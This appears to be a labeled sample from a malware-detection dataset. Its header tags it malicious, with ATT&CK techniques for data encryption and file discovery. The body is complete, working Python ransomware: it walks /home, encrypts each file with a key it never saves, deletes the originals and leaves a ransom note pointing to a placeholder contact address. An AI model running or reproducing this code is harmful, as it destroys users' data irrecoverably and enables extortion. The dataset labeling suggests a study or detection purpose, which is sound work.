# label: malicious family=destroy techniques=T1486,T1083 lines=6,11-12,15
import os
from cryptography.fernet import Fernet
key = Fernet.generate_key()
f = Fernet(key)
for root, dirs, files in os.walk("/home"):
    for name in files:
        p = os.path.join(root, name)
        try:
            data = open(p, "rb").read()
            open(p + ".locked", "wb").write(f.encrypt(data))
            os.remove(p)
        except Exception:
            pass
open("/home/README_RESTORE.txt", "w").write("files encrypted. contact restore@mail.bad-host.example\n")
